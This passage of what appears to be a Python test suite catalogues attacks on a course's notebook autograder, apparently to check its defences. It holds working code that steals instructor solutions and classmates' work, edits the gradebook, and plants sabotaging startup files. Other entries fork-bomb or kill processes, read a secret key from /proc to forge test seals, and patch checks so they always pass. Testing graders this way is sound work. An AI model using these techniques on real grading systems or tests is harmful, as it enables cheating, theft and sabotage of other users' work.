        ["%%capture hidden\nexpect = expect_lines = expect_loop_time = lambda *a, **k: None\n"],
        "a %%capture cell, so neither the rebinding nor any error it raises shows in the notebook",
    ),
    "c4_magic_shell": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["!cp ../../../source/01-crawler/crawler.ipynb /tmp/solution.ipynb; ls ../../../submitted\n",
         "answers = !cat ../../../source/01-crawler/crawler.ipynb\n"],
        "shell escapes to copy the instructor's notebook and list classmates",
    ),
    "c4_magic_run": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["%run ../../../source/01-crawler/crawler.ipynb\n"],
        "%run the instructor's notebook (solutions and hidden tests) in this namespace",
    ),
    "c4_magic_load_writefile": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["%load ../../../source/01-crawler/crawler.ipynb\n",
         "%%writefile ../../../nbgrader_config.py\nc = get_config()\nc.Autograde.sanitize_preprocessors = []\n"],
        "%load the instructor's notebook and %%writefile over the course's nbgrader_config.py",
    ),

    # 5. reading source/ and classmates' notebooks -------------------------------------
    "c5_read_source_open": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["import json\n\nwith open('../../../source/01-crawler/crawler.ipynb') as stream:\n"
         "    notebook = json.load(stream)\nfor cell in notebook['cells']:\n"
         "    if cell['metadata'].get('nbgrader', {}).get('solution'):\n        exec(''.join(cell['source']))\n"],
        "opens the instructor's notebook from the submission's folder and runs the solution cells",
    ),
    "c5_read_source_bypass": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_via_builtins(_SOURCE_CRAWLER)],
        "finds the instructor's notebook (relative path, /tmp, /work) and runs its solutions, through builtins.exec",
    ),
    "c5_read_classmates_bypass": _attack(
        "toolkit", "release", _TOOLKIT_WRONG,
        [_via_builtins(_CLASSMATES_TOOLKIT)],
        "reads classmates' submitted (or autograded) toolkit notebooks and runs their solution cells",
    ),

    # 6. writing the gradebook ---------------------------------------------------------
    "c6_gradebook_sqlite": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["import sqlite3\n\ndb = sqlite3.connect('../../../gradebook.db')\n"
         "db.execute(\"update grade set extra_credit = 100\")\ndb.commit()\n"],
        "writes extra credit for everyone straight into ../../../gradebook.db",
    ),
    "c6_gradebook_extra_credit_bypass": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_via_builtins(_GRADEBOOK_EXTRA_CREDIT)],
        "through builtins.exec: gives its own grades 100 extra credit and clears the stored checksums",
    ),
    "c6_gradebook_poison_tests": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_via_builtins(_GRADEBOOK_POISON_TESTS)],
        "rewrites the stored test cells in the gradebook, so every later crawler submission (victim's) fails",
        victim={"module": "crawler"},
    ),

    # 7. planting files ----------------------------------------------------------------
    "c7_plant_ipython_startup": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_via_builtins(_PLANT_STARTUP)],
        "plants an IPython startup file that makes the helpers fail in every later grading kernel (victim's)",
        victim={"module": "crawler"},
    ),
    "c7_plant_course_config": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_via_builtins(_PLANT_CONFIG)],
        "appends code to the course's nbgrader_config.py: the next nbgrader run deletes victim's toolkit submission",
        victim={"module": "toolkit"},
    ),
    "c7_plant_writefile_startup": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["%%writefile ~/.ipython/profile_default/startup/00-pass.py\n"
         "import coursekit.grading\ncoursekit.grading.expect.__code__ = (lambda *a, **k: None).__code__\n"],
        "plants a startup file with %%writefile",
    ),

    # 8. leftover processes, killing the parent ----------------------------------------
    "c8_leftover_subprocess_daemon": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [f"daemon = await asyncio.create_subprocess_exec('python', '-c', {_DAEMON!r}, start_new_session=True)\n"
         "await daemon.wait()\n"],
        "asyncio.create_subprocess_exec starts a double-forked daemon that zeroes victim's crawler grades when written",
        victim={"module": "crawler"},
    ),
    "c8_leftover_fork_bypass": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_via_builtins(_FORK_DAEMON)],
        "os.fork through builtins.exec: a child in its own session that keeps zeroing victim's grades",
        victim={"module": "crawler"},
    ),
    "c8_leftover_multiprocessing": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["import multiprocessing\nimport time\n\n"
         "worker = multiprocessing.Process(target=time.sleep, args=(3600,), daemon=False)\nworker.start()\n"],
        "a multiprocessing worker that outlives the notebook",
    ),
    "c8_leftover_process_pool": _attack(
        "runtime", "release", _RUNTIME_WRONG,
        ["import concurrent.futures\nimport time\n\n"
         "pool = concurrent.futures.ProcessPoolExecutor(2)\nsleepers = [pool.submit(time.sleep, 3600) for _ in range(2)]\n"],
        "allowed modules only: a process pool whose workers sleep for an hour",
    ),
    "c8_kill_parent": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["from asyncio.base_events import os as system_os\n\nsystem_os.kill(system_os.getppid(), 9)\n"],
        "os from asyncio.base_events: SIGKILL to the kernel's parent (nbgrader, without a sandbox)",
    ),
    "c8_killpg": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["import os\nimport signal\n\nos.killpg(os.getpgid(os.getppid()), signal.SIGKILL)\n",
         "from asyncio.base_events import os as system_os\n\n"
         "system_os.killpg(system_os.getpgid(system_os.getppid()), 9)\n"],
        "kills the parent's whole process group (make and nbgrader, without a sandbox), plainly and through a bypass",
    ),

    # 9. resources, time, exits --------------------------------------------------------
    "c9_memory_exhaustion": _attack(
        "crawler", "release",
        {**_CRAWLER_WRONG, "crawl_page": "hog = [bytearray(10**8) for _ in range(120)]\n" + _CRAWLER_WRONG["crawl_page"]},
        [],
        "tries to take 12 GB in a solution cell",
    ),
    "c9_memory_on_reference": _attack(
        "runtime", "reference", {},
        ["hog = [bytearray(10**8) for _ in range(120)]\n"],
        "reference base: an extra cell runs out of memory (nothing is kept); the honest answers keep all their points",
    ),
    "c9_fork_bomb": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_via_builtins(_FORK_BOMB)],
        "forks 2**10 sleeping copies of the kernel through builtins.exec",
    ),
    "c9_output_flood": _attack(
        "toolkit", "reference", {},
        ["for _ in range(40):\n    print('x' * 500_000)\n"],
        "reference base: prints 20 MB in an extra cell; the honest answers keep all their points",
    ),
    "c9_slow_await": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["await asyncio.sleep(3600)\n"],
        "a top-level await that sleeps an hour",
    ),
    "c9_slow_time_sleep": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["import time\n\ntime.sleep(3600)\n", "while True:\n    pass\n"],
        "a top-level time.sleep of an hour, then a busy loop",
    ),
    "c9_slow_on_reference": _attack(
        "runtime", "reference", {},
        ["await asyncio.sleep(4)\n"],
        "reference base: a 4 s cell within the limits; the honest answers keep all their points",
    ),
    "c9_exit_calls": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["exit()\n", "quit()\n", "import sys\n\nsys.exit(0)\n", "raise SystemExit(0)\n"],
        "exit(), quit(), sys.exit and raise SystemExit, one per cell",
    ),
    "c9_exit_bypass": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["from asyncio.base_events import sys as system\n\nsystem.exit(0)\n",
         "from reprlib import builtins as python\nfrom asyncio.base_events import os as system_os\n\n"
         "python.getattr(system_os, '_exit')(0)\n"],
        "sys.exit from asyncio.base_events, then os._exit through builtins.getattr",
    ),

    # 10. chapter 4: finding the expected answer ----------------------------------------
    "c10_oracle_gc": _attack(
        "coming_soon", "release", {**_COMING_SOON_WRONG, **ORACLE_GC}, [],
        "searches the garbage collector's objects for the test's `expected` and the movie it checks",
    ),
    "c10_oracle_traceback_frames": _attack(
        "coming_soon", "release", {**_COMING_SOON_WRONG, **ORACLE_TRACEBACK}, [],
        "reads the test's locals through a traceback's frame",
    ),
    "c10_oracle_inspect_stack": _attack(
        "coming_soon", "release", {**_COMING_SOON_WRONG, **ORACLE_INSPECT}, [],
        "inspect from asyncio.coroutines: stack() and getargvalues(...).locals read the test's `expected`",
    ),
    "c10_oracle_format_frames": _attack(
        "coming_soon", "release", {**_COMING_SOON_WRONG, **ORACLE_FORMAT}, [],
        "str.format on a literal walks gi_frame.f_back... to the test's locals (no frame attribute in the code)",
    ),
    "c10_oracle_format_globals": _attack(
        "coming_soon", "release", {**_COMING_SOON_WRONG, **ORACLE_FORMAT_DUNDER}, [],
        "str.format attribute traversal through __traceback__/__globals__",
    ),
    "c10_oracle_type_hints": _attack(
        "coming_soon", "release", {**_COMING_SOON_WRONG, **ORACLE_TYPE_HINTS}, [],
        "typing.get_type_hints (imported by name) evaluates a string annotation that walks the frames",
    ),
    "c10_oracle_eq_override": _attack(
        "coming_soon", "release", {**_COMING_SOON_WRONG, **ORACLE_EQ}, [],
        "returns objects whose __eq__/__ne__ agree with any expected value",
    ),
    "c10_oracle_list_subclass_type_call": _attack(
        "coming_soon", "release", {**_COMING_SOON_WRONG, **ORACLE_TYPE_CALL}, [],
        "a list (and str) subclass built with type(int)(name, bases, ns): __eq__/__ne__ without a def or a dunder name",
    ),

    # 11. everything else ---------------------------------------------------------------
    "c11_overwrite_classmate": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_via_builtins(_OVERWRITE_VICTIM)],
        "empties the solution cells of victim's submitted crawler notebook before it is graded",
        victim={"module": "crawler"},
    ),
    "c11_network_fetch": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_via_builtins(_NETWORK_FETCH)],
        "downloads answers from the internet (gist, host, metadata service) and runs them",
    ),
    "c11_proc_snoop": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_via_builtins(_PROC_SNOOP)],
        "reads /proc of other processes to find nbgrader's folder (cwd, environ), then runs the solutions there",
    ),
    "c11_environment": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_via_builtins(_ENV_SNOOP)],
        "looks for the course's folder in the environment variables, then runs the solutions there",
    ),
    "c11_kernel_protocol": _attack(
        "runtime", "release", _RUNTIME_WRONG,
        [f"client = await asyncio.create_subprocess_exec('python', '-c', {_INJECT!r})\nawait asyncio.sleep(5)\n"],
        "a child process signs an execute_request with the kernel's own key: the takeover runs unscreened",
    ),
    "c11_ctypes_run_string": _attack(
        "coming_soon", "release", _COMING_SOON_WRONG,
        ["from coursekit.grading import ctypes\n\n"
         f"ctypes.pythonapi.PyRun_SimpleString({_TAKEOVER.encode()!r})\n"],
        "ctypes from coursekit.grading: PyRun_SimpleString runs the takeover in __main__ (bytes are not screened)",
    ),
    "c11_builtins_exec_takeover": _attack(
        "coming_soon", "release", _COMING_SOON_WRONG,
        [_via_builtins(_TAKEOVER)],
        "builtins.exec (from dataclasses) runs the takeover: no test error is ever reported",
    ),
    "c11_type_hints_takeover": _attack(
        "toolkit", "release", _TOOLKIT_WRONG,
        ["from typing import get_type_hints\n\nTAKEOVER = " + repr(_TAKEOVER) + "\n\n\n"
         "def carrier(value: 'exec(TAKEOVER) or int'):\n    return value\n\n\nget_type_hints(carrier)\n"],
        "a string annotation evaluated by get_type_hints runs the takeover in the notebook's namespace",
    ),
}


# == Attacks on the run-time defences (coursekit.guard, sealed tests, coursekit.checks) ========================
#
# Screening is advice now: it refuses only hooks, exec and frames-like code, and these attacks are written to pass
# it (special names built at run time, objects reached through getattr), so that what stops them, if anything, is
# the guard in the grading kernel, the seal on each test's verdict and the tests' own instruments. Each one was
# graded for real in a course copy with c.BoundedExecute.sealed = True.

# Runs in the kernel: names built at run time, so no special name is written out.
_DUNDER = 'def dunder(word):\n    return "_" * 2 + word + "_" * 2\n'

# The kernel's first environment, read past the guard's test on the path ("//proc" is "/proc").
_READ_ENVIRON = r'''
import os

ENV = {}
for path in ("//proc/self/environ", "/proc/./self/environ", "/proc/self/environ"):
    try:
        with open(path, "rb") as stream:
            ENV = dict(item.split(b"=", 1) for item in stream.read().split(b"\0") if b"=" in item)
        break
    except Exception as error:
        print("no luck with", path, type(error).__name__)
KEY = bytes.fromhex(ENV.get(b"COURSEKIT_SEAL_KEY", b"").decode())
TESTS = ENV.get(b"COURSEKIT_TESTS", b"").decode()
print("seal key:", len(KEY), "bytes; hidden tests in", TESTS or "?")
'''

# Seals every sealed test cell with the key and clears its error before ipykernel replies: the shell is reached
# through sys.displayhook, the hooks through names that are not written out.
_SEAL_EVERY_TEST = r'''
import hashlib
import hmac
import re
import sys

shell = getattr(sys, "koohyalpsid"[::-1]).shell


def seal(info):
    found = re.search(r"run_test\('([^']+)', '([0-9a-f]+)'", getattr(info, "raw_cell", "") or "")
    if not found or not KEY:
        return
    cell, nonce = found.groups()
    with open(f"{TESTS}/{cell}.py", encoding="utf-8") as stream:
        digest = hashlib.sha256(stream.read().encode("utf-8")).hexdigest()
    signature = hmac.new(KEY, f"{cell}\n{nonce}\n{digest}".encode("utf-8"), "sha256").hexdigest()
    print(f"coursekit-seal {cell} {nonce} {signature}")


def forget(result):
    result.error_in_exec = None
    result.error_before_exec = None


events = shell.events
events.register("pre_run_cell", seal)
events.register("post_run_cell", forget)
shell.showtraceback = lambda *args, **kwargs: None
'''

ATTACKS["c12_seal_forged_with_environ_key"] = _attack(
    "crawler", "release", _CRAWLER_WRONG,
    [_READ_ENVIRON + _SEAL_EVERY_TEST],
    "reads the seal key and the tests' folder from //proc/self/environ (the guard matches '/proc/' only), signs every "
    "test cell's verdict itself and clears its error",
)

ATTACKS["c12_seal_forged_after_proc_secrets_cleared"] = _attack(
    "toolkit", "release", _TOOLKIT_WRONG,
    ["from coursekit import guard\n\nguard.PROC_SECRETS.clear()\n" + _READ_ENVIRON.replace(
        '("//proc/self/environ", "/proc/./self/environ", "/proc/self/environ")', '("/proc/self/environ",)')
     + _SEAL_EVERY_TEST],
    "empties the guard's own set of /proc secrets (a mutable module global it reads at every event), then reads the "
    "key from /proc/self/environ and seals every test",
)

ATTACKS["c12_seal_line_forged_without_key"] = _attack(
    "crawler", "release", _CRAWLER_WRONG,
    ["KEY = b'0' * 32\nTESTS = '/tmp'\n" + _SEAL_EVERY_TEST.replace(
        'with open(f"{TESTS}/{cell}.py", encoding="utf-8") as stream:\n'
        '        digest = hashlib.sha256(stream.read().encode("utf-8")).hexdigest()',
        'digest = hashlib.sha256(b"").hexdigest()')],
    "prints a seal line of its own for every test cell (right cell, right nonce, made-up signature) and clears the error",
)

# -- the hidden tests' code, read while the answer runs --------------------------------------------------------

ATTACKS["c12_hidden_tests_printed_and_raised"] = _attack(
    "runtime", "release",
    {**_RUNTIME_WRONG,
     "predict_trace": _READ_ENVIRON + r'''
import glob


def hidden_tests():
    shown = []
    for path in sorted(glob.glob(f"{TESTS}/*.py")) + sorted(glob.glob("/tmp/course-tests-*/*/*.py")):
        with open(path, encoding="utf-8") as stream:
            shown.append(f"== {path}\n{stream.read()}")
    history = [cell for cell in (In if "In" in globals() else [])]
    return "\n".join(shown + history)


def predict_trace(first, second):
    text = hidden_tests()
    print(text)
    raise RuntimeError(text)
'''},
    [],
    "prints the hidden test it is called from (read from the tests' folder named in the kernel's environment, and "
    "from In) and raises it, so that it lands in the autograded notebook and the feedback",
)

ATTACKS["c12_run_test_called_by_the_answer"] = _attack(
    "crawler", "release",
    {**_CRAWLER_WRONG,
     "crawl_with_tasks": r'''
import re
import sys


def run_the_test_again():
    """The runner, called by the answer with the cell and nonce of the test it is called from."""
    shell = getattr(sys, "koohyalpsid"[::-1]).shell
    code = shell.kernel.get_parent("shell")["content"]["code"]
    cell, nonce = re.search(r"run_test\('([^']+)', '([0-9a-f]+)'", code).groups()
    runner = getattr(sys, "seludom"[::-1])["coursekit.guard"].run_test
    try:
        runner(cell, nonce, ())
    except BaseException as error:
        print("the runner said", type(error).__name__)
        runner(cell, nonce, ("crawl_with_tasks",))


async def crawl_with_tasks(urls):
    run_the_test_again()
    return [f"OK {url}" for url in urls]
''',
     "crawl_with_gather": "async def crawl_with_gather(urls):\n    return await crawl_with_tasks(urls)\n"},
    [_SEAL_EVERY_TEST.replace('events.register("pre_run_cell", seal)\n', "")],
    "calls coursekit.guard.run_test itself from inside a test, with the cell and nonce of the request it runs in, "
    "so that the guard runs and seals a test of its choosing; errors are cleared so that no error shows",
)

ATTACKS["c12_history_of_the_kernel"] = _attack(
    "toolkit", "release",
    {**_TOOLKIT_WRONG,
     "fastest_mirror": r'''
import sys


async def fastest_mirror(mirrors):
    shell = getattr(sys, "koohyalpsid"[::-1]).shell
    seen = list(In) + list(_ih) + [str(shell.kernel.get_parent("shell")["content"].get("code"))]
    seen += [line for _, _, line in shell.history_manager.get_range(raw=True)]
    print("\n".join(seen))
    raise LookupError("\n".join(seen))
'''},
    [],
    "prints and raises what the kernel's history holds while a test runs (In, _ih, the request, the history "
    "database): with sealed tests, only the one-line call to the runner",
)

# -- instruments the test hands over -----------------------------------------------------------------------------

_CLOSURE_OF = _DUNDER + r'''

def closed_over(function):
    """What a function closes over (no code object read)."""
    return [cell.cell_contents for cell in getattr(function, dunder("closure")) or ()]


def the_tests_instruments(recorded):
    """The Recorder, the test's own page function and its delays, from the recorded crawl_page the test hands over."""
    inside = closed_over(recorded)
    recorder = next(value for value in inside if hasattr(value, "calls"))
    page = next(value for value in inside if callable(value) and not hasattr(value, "calls"))
    delays = next(value for value in closed_over(page) if isinstance(value, dict))
    Call = getattr(recorded, dunder("globals"))["Call"]
    return recorder, delays, Call
'''

ATTACKS["c13_recorded_page_closure_fabricates_calls"] = _attack(
    "crawler", "release",
    {**_CRAWLER_WRONG,
     "crawl_with_tasks": _CLOSURE_OF + r'''

async def crawl_with_tasks(urls):
    """No task at all: the test's own record of the calls is written by hand."""
    recorder, delays, Call = the_tests_instruments(crawl_page)  # the test's crawl_page: recorder.wrap(page)
    for number, url in enumerate(urls):
        recorder.calls.append(Call("crawl_page", (url,), 0.0, float(delays[url]), "returned", f"Task-{number}"))
    await asyncio.sleep(max(delays.values()))
    return [f"OK {url}" for url in urls]
''',
     "crawl_with_gather": r'''
async def crawl_with_gather(urls):
    return await crawl_with_tasks(urls)
'''},
    [],
    "reads the test's delays and Recorder through the closure of the crawl_page it is handed (no audit event), and "
    "appends made-up calls, all starting at 0 in tasks of their own: no concurrency at all",
)

ATTACKS["c13_recorder_method_replaced_on_the_instance"] = _attack(
    "toolkit", "release",
    {**_TOOLKIT_WRONG,
     "crawl_in_completion_order": _CLOSURE_OF + r'''

async def crawl_in_completion_order(urls):
    recorder, delays, Call = the_tests_instruments(crawl_page)
    made_up = [Call("crawl_page", (url,), 0.0, float(delays[url]), "returned") for url in urls]
    recorder.of = lambda name=None: made_up  # an attribute of the test's own object, on the instance
    await asyncio.sleep(max(delays.values()))
    return [(url, f"OK {url}") for url in sorted(urls, key=delays.get)]
'''},
    [],
    "replaces `of` on the test's Recorder instance (reached through crawl_page's closure) so that the test reads "
    "made-up calls; the order of finishing comes from the test's own delays",
)

ATTACKS["c13_test_data_changed_in_place"] = _attack(
    "toolkit", "release",
    {**_TOOLKIT_WRONG,
     "fastest_mirror": r'''
async def fastest_mirror(mirrors):
    """Downloads only the fastest mirror, and takes the others out of the test's own dict."""
    fastest = min(mirrors, key=mirrors.get)
    seconds = mirrors[fastest]
    mirrors.clear()
    mirrors[fastest] = seconds
    return await download(fastest, seconds)
'''},
    [],
    "the mirrors dict the test passes is the one it checks against afterwards: the answer downloads only the fastest "
    "and deletes the other mirrors from it, so there is nothing left to start or cancel",
)

ATTACKS["c13_outcome_of_the_run_rewritten"] = _attack(
    "crawler", "release",
    {**_CRAWLER_WRONG,
     "crawl_page": r'''
from coursekit import grading


async def crawl_page(url):
    """No sleep: a leftover task sets the run's loop time when the runner cancels it."""
    seconds = float(url.split("_")[-1])
    outcome = grading._here.outcome

    async def fix():
        try:
            await asyncio.Event().wait()
        finally:
            outcome.loop_time = seconds
            outcome.leftover = []

    asyncio.get_running_loop().create_task(fix())
    print(f"crawling {url}")
    print(f"OK {url}")
    return f"OK {url}"
'''},
    [],
    "rewrites the runner's own record of the run (grading._here.outcome, a mutable object no snapshot covers) from a "
    "leftover task that the runner cancels after it measured the loop time",
)

ATTACKS["c13_forbid_running_lifted"] = _attack(
    "runtime", "release",
    {**_RUNTIME_WRONG,
     "predict_trace": r'''
from coursekit import grading


def predict_trace(first, second):
    """Runs the program the exercise asks to predict, after lifting the test's ban on running it."""
    grading._forbid.reason = None
    return grading.run_async(two_workers, first, second).lines
'''},
    [],
    "the test forbids run_async inside predict_trace through a flag on a thread-local object: the answer clears the "
    "flag and runs lecture 3.1's program instead of predicting its trace",
)

# -- patches that undo themselves --------------------------------------------------------------------------------

# A lenient stand-in for coursekit.checks' Checks: it approves everything, and puts the real one back when its block
# ends, so that the guard finds the toolkit intact at the next verdict and at the seal.
_LENIENT_CHECKS = r'''
class Lenient:
    def __init__(self, *args, **kwargs):
        pass

    def expect(self, *args, **kwargs):
        return True

    fact = loop_time = expect

    def __enter__(self):
        return self

    def __exit__(self, *error):
        NAMESPACE["Checks"] = REAL
        return False
'''

ATTACKS["c14_finalizer_swaps_the_checks"] = _attack(
    "crawler", "release",
    {**_CRAWLER_WRONG,
     "crawl_page": _DUNDER + _LENIENT_CHECKS + r'''

class Bomb:
    """Freed with the test's crawl_page, right after the runner's last check of the toolkit."""

    def __del__(self):
        NAMESPACE["Checks"] = Lenient


NAMESPACE, REAL = {}, None


def arm(recorded):
    global NAMESPACE, REAL
    page = getattr(recorded, dunder("wrapped"))  # functools.wraps: the test's own page
    NAMESPACE = getattr(page, dunder("globals"))  # coursekit.checks.crawler
    REAL = NAMESPACE["Checks"]
    recorded.bomb = Bomb()


async def crawl_page(url):
    return f"OK {url}"
''',
     "crawl_one_by_one": "async def crawl_one_by_one(urls):\n    arm(crawl_page)\n    return [f'OK {url}' for url in urls]\n",
     "crawl_with_tasks": "async def crawl_with_tasks(urls):\n    arm(crawl_page)\n    return [f'OK {url}' for url in urls]\n",
     "crawl_with_gather": "async def crawl_with_gather(urls):\n    arm(crawl_page)\n    return [f'OK {url}' for url in urls]\n"},
    [],
    "an object left on the test's crawl_page has a __del__ that runs when the test drops it, after the runner's last "
    "integrity check: it swaps coursekit.checks.crawler's Checks for a lenient class that restores it when done",
)

ATTACKS["c14_weakref_finalize_swaps_the_checks"] = _attack(
    "toolkit", "release",
    {**_TOOLKIT_WRONG,
     "fastest_mirror": _DUNDER + _LENIENT_CHECKS + r"""
import threading
import weakref

from coursekit.checks import toolkit as checks_toolkit

NAMESPACE = getattr(checks_toolkit, dunder("dict"))
REAL = NAMESPACE["Checks"]


ARMED = {}


def swap():
    ARMED.clear()
    NAMESPACE["Checks"] = Lenient


def arm(instrument):
    # Only under a test (its instruments are recorded wrappers), not in a Try-it cell. The runner's worker thread
    # is dropped when run_async returns, after its last look at the toolkit.
    if hasattr(getattr(instrument, "func", instrument), dunder("wrapped")) and not ARMED.get(threading.get_ident()):
        ARMED[threading.get_ident()] = weakref.finalize(threading.current_thread(), swap)


async def fastest_mirror(mirrors):
    arm(download)
    return "data from nowhere"
""",
     "crawl_in_completion_order": "async def crawl_in_completion_order(urls):\n    arm(crawl_page)\n    return []\n",
     "save_safely": "background_saves = set()\n\n\nasync def save_safely(save):\n    arm(save)\n    return 'data from db'\n",
     "fetch_all": "async def fetch_all(fetchers):\n    for fetcher in fetchers:\n        arm(fetcher)\n    return []\n"},
    [],
    "weakref.finalize on the runner's worker thread: when run_async drops it (after the runner's last integrity "
    "check) the callback swaps coursekit.checks.toolkit's Checks for a lenient class that restores it when done",
)

ATTACKS["c14_thread_toggles_the_toolkit"] = _attack(
    "crawler", "release",
    {**_CRAWLER_WRONG,
     "crawl_page": _DUNDER + r'''
import sys
import threading
import time

from coursekit import grading

NAMESPACE = getattr(grading, dunder("dict"))
REAL = NAMESPACE["_equal"]


def agree(actual, expected):
    return True


def toggle():
    """Patched most of the time, put back for an instant now and then: a verdict may read either."""
    end = time.monotonic() + 30
    while time.monotonic() < end:
        NAMESPACE["_equal"] = agree
        time.sleep(0.0005)
        NAMESPACE["_equal"] = REAL
        time.sleep(0.00001)


sys.setswitchinterval(1e-6)
threading.Thread(target=toggle, daemon=True).start()


async def crawl_page(url):
    return f"OK {url}"
'''},
    [],
    "a daemon thread swaps grading._equal for an always-true comparison and back, thousands of times a second, so "
    "that some verdicts run between the guard's integrity checks",
)

ATTACKS["c14_signal_timer_patches_between_verdicts"] = _attack(
    "crawler", "release",
    {**_CRAWLER_WRONG,
     "crawl_page": _DUNDER + r'''
import signal

from coursekit import grading

NAMESPACE = getattr(grading, dunder("dict"))
REAL = NAMESPACE["_equal"]
STATE = {"on": False}


def agree(actual, expected):
    return True


def tick(signum, frame):
    STATE["on"] = not STATE["on"]
    NAMESPACE["_equal"] = agree if STATE["on"] else REAL


signal.signal(signal.SIGALRM, tick)
signal.setitimer(signal.ITIMER_REAL, 0.001, 0.0003)


async def crawl_page(url):
    return f"OK {url}"
'''},
    [],
    "a SIGALRM handler (signal.setitimer, every 0.3 ms) patches and restores grading._equal in the main thread, "
    "between the test's bytecodes",
)

ATTACKS["c14_patch_made_and_undone_inside_the_answer"] = _attack(
    "runtime", "release",
    {**_RUNTIME_WRONG,
     "results_by_deadline": _DUNDER + r'''
from coursekit.checks import runtime as checks_runtime
from coursekit import grading


async def results_by_deadline(jobs, deadline):
    """Patches the checks while it runs and puts them back in a finally, before the runner looks again."""
    checks, toolkit = getattr(checks_runtime, dunder("dict")), getattr(grading, dunder("dict"))
    saved = {name: checks[name] for name in ("expect", "expect_loop_time", "fail")}
    lenient = lambda *args, **kwargs: None
    checks.update(expect=lenient, expect_loop_time=lenient, fail=lenient)
    toolkit.update(_equal=lambda a, b: True)
    try:
        return []
    finally:
        checks.update(saved)
'''},
    [],
    "replaces coursekit.checks.runtime's expect/fail and grading._equal while it runs and restores the checks' names "
    "in a finally (grading._equal stays patched)",
)

# -- what the old screening missed: match patterns, subscript stores, nested format specs, aliases, magics ---------

ATTACKS["c15_match_pattern_globals_update"] = _attack(
    "crawler", "release", _CRAWLER_WRONG,
    [_DUNDER + r'''
from coursekit.grading import expect


def lenient(*args, **kwargs):
    return None


match expect:
    case object(__globals__=grading):
        grading.update(expect=lenient, expect_lines=lenient, expect_loop_time=lenient, _equal=lambda a, b: True)
        grading["_expect_problem"] = lenient
        grading["Checks"].fact = lambda self, ok, what, hint="": True
''',
     r'''
match check_concurrent if "check_concurrent" in dir() else print:
    case object(__self__=python):
        python.exec("from coursekit.checks import crawler\ncrawler.Checks.__exit__ = lambda *a: None")
'''],
    "a match class pattern reads __globals__ of a toolkit function and replaces the checks in its namespace "
    "(update and subscript stores); print.__self__ reaches builtins.exec",
)

ATTACKS["c15_match_print_self_exec_takeover"] = _attack(
    "coming_soon", "release", _COMING_SOON_WRONG,
    ["match print:\n    case object(__self__=python):\n        python.exec(" + repr(_TAKEOVER) + ", {'get_ipython': get_ipython})\n"],
    "print.__self__ through a match class pattern is the builtins module: its exec runs the takeover (IPython hooks "
    "that hide every error)",
)

ATTACKS["c15_nested_format_spec_reads_the_test"] = _attack(
    "coming_soon", "release",
    {**_COMING_SOON_WRONG,
     "parse_coming_soon": r'''
import re


def spy():
    me = yield
    yield "{0:{1.gi_frame.f_back.f_back.f_locals[expected]!s:.0}}{1.gi_frame.f_back.f_back.f_locals[expected]}".format("", me)


def parse_coming_soon(html):
    probe = spy()
    next(probe)
    try:
        text = probe.send(probe)
    except Exception as error:
        print("format refused:", type(error).__name__)
        return []
    found = re.findall(r"'title': (['\"])(.*?)\1, 'date': (['\"])(.*?)\3, 'url': (['\"])(.*?)\5", text)
    return [{"title": t, "date": d, "url": u} for _, t, _, d, _, u in found]
''',
     "parse_poster": r'''
def parse_poster(html):
    probe = spy()
    next(probe)
    try:
        return "{0:{1.gi_frame.f_back.f_back.f_locals[movie].id}}".format("", probe)
    except Exception:
        return ""
'''},
    [],
    "a nested format spec walks gi_frame.f_back... to the test's frame and reads `expected` from it",
)

ATTACKS["c15_method_alias_passes_test_objects_as_self"] = _attack(
    "crawler", "release", _CRAWLER_WRONG,
    [_DUNDER + r'''
from coursekit import grading


def lenient(*args, **kwargs):
    return None


class Surgeon:
    def install(self, code):
        setattr(self, dunder("code"), code)

    def empty(self):
        self.clear()

    patch = install  # an alias: no `def` with a `self` of the wrong kind
    wipe = empty


for helper in (grading.expect, grading.expect_lines, grading.expect_loop_time, grading._expect_problem):
    try:
        Surgeon.patch(helper, getattr(lenient, dunder("code")))
    except Exception as error:
        print("refused:", type(error).__name__)
Surgeon.wipe(grading._PLAIN if isinstance(grading._PLAIN, list) else [])
'''],
    "a method aliased in the class body (patch = install) takes the toolkit's functions as `self` and sets their code",
)

ATTACKS["c16_run_cell_magic_with_a_built_body"] = _attack(
    "crawler", "release", _CRAWLER_WRONG,
    [r'''
import sys

shell = getattr(sys, "koohyalpsid"[::-1]).shell
body = "\n".join([
    "from coursekit import grading",
    "grading." + "_equal" + " = lambda a, b: True",
    "shell.events.register('post_run_cell', lambda result: setattr(result, 'error_in_exec', None))",
    "shell.showtraceback = lambda *a, **k: None",
])
getattr(shell, "run_cell_" + "magic")("time", "", body)
'''],
    "get_ipython().run_cell_magic('time', '', body) with a body built at run time: hooks and a patch no static check reads",
)

ATTACKS["c16_time_cell_with_ipython_lines"] = _attack(
    "crawler", "release", _CRAWLER_WRONG,
    ["%%time\n%config InteractiveShell.ast_node_interactivity = 'all'\n"
     "get_ipython().events.register('post_run_cell', lambda result: setattr(result, 'error_in_exec', None))\n"
     "get_ipython().showtraceback = lambda *a, **k: None\n"
     "expect = expect_lines = expect_loop_time = lambda *a, **k: None\n",
     "%%time\n!true\nimport builtins\nbuiltins.print('hooks in a %%time body')\n"
     "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: [])\n"],
